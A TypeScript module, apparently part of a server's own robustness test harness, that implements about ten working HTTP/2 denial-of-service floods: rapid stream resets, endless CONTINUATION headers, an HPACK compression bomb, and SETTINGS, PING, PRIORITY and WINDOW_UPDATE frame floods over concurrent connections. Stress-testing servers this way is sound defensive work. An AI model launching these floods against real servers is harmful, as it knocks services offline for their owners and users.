/** Floods of HTTP/2: streams that are reset at once, headers without end, frames that cost more than they weigh. */
import { framesForms } from "../../test/support/http2-frames.ts";
import { CONTINUATION, DATA, END_HEADERS, END_STREAM, frame, HEADERS, headerBlock, integer, rawHttp2, RST_STREAM, type Field, type RawHttp2 } from "../../test/support/raw-http2.ts";
import { pause, type Attack, type AttackTarget } from "./attack.ts";

const [PRIORITY, SETTINGS, PING, WINDOW_UPDATE] = [2, 4, 6, 8];
const CLIENTS = 4;

const get = (host: string): Field[] => [[":method", "GET"], [":scheme", "https"], [":authority", host], [":path", "/flood"]];

/** Opens connections one after the other, several at a time, and has `flood` send bursts over each as long as it takes them. */
function flooding(name: string, burst: (round: number, target: AttackTarget) => readonly Buffer[], most = 2000): Attack {
  return {
    name,
    async run(target, signal) {
      let sent = 0;
      await Promise.all(Array.from({ length: CLIENTS }, async () => {
        while (!signal.aborted) {
          const client = await opened(target.https, signal);
          for (let round = 0; client && round < most && !signal.aborted; round++) {
            const frames = burst(round, target);
            if (!client.send(...frames) || (round % 20 === 19 && (await client.ended(1)))) break;
            sent += frames.length;
            await new Promise((resolve) => setImmediate(resolve));
          }
          client?.close();
        }
      }));
      return sent;
    },
  };
}

async function opened(port: number, signal: AbortSignal): Promise<RawHttp2 | undefined> {
  try {
    return await rawHttp2(port);
  } catch {
    await pause(50, signal);
    return undefined;
  }
}

const streams = (round: number, count: number): readonly number[] => Array.from({ length: count }, (_, i) => 2 * (count * round + i) + 1);

export const HTTP2_ATTACKS: readonly Attack[] = [
  flooding("rapid resets", (round, { host }) => streams(round, 20).flatMap((stream) => [frame(HEADERS, END_HEADERS | END_STREAM, stream, headerBlock(get(host))), frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8]))])),
  flooding("requests without end", (round, { host }) => streams(round, 20).map((stream) => frame(HEADERS, END_HEADERS, stream, headerBlock([[":method", "POST"], ...get(host).slice(1)])))),
  flooding("CONTINUATION without end", (round, { host }) => (round === 0 ? [frame(HEADERS, END_STREAM, 1, headerBlock(get(host)))] : [frame(CONTINUATION, 0, 1, headerBlock([[`x-${round}`, "y".repeat(1000)]]))])),
  flooding("headers that grow by compression", (round, { host }) => {
    const stored = Buffer.concat([Buffer.from([0x40]), integer(6, 0x7f, 0), Buffer.from("x-bomb"), integer(3000, 0x7f, 0), Buffer.alloc(3000, "y")]);
    return [frame(HEADERS, END_HEADERS | END_STREAM, 2 * round + 1, Buffer.concat([headerBlock(get(host)), stored, Buffer.alloc(10_000, 0x80 + 62)]))];
  }),
  flooding("SETTINGS", () => Array.from({ length: 50 }, () => frame(SETTINGS, 0, 0))),
  flooding("PING", () => Array.from({ length: 50 }, () => frame(PING, 0, 0, Buffer.alloc(8)))),
  flooding("PRIORITY", (round) => streams(round, 50).map((stream) => frame(PRIORITY, 0, stream, Buffer.from([0, 0, 0, 0, 9])))),
  flooding("WINDOW_UPDATE", () => Array.from({ length: 50 }, () => frame(WINDOW_UPDATE, 0, 0, Buffer.from([0, 0, 0, 1])))),
  flooding("empty DATA", (round, { host }) => (round === 0 ? [frame(HEADERS, END_HEADERS, 1, headerBlock([[":method", "POST"], ...get(host).slice(1)]))] : Array.from({ length: 50 }, () => frame(DATA, 0, 1)))),
  flooding("frames against the rules", (_round, { host, random }) => random.pick(framesForms(host, () => "9")).frames, 1),
];
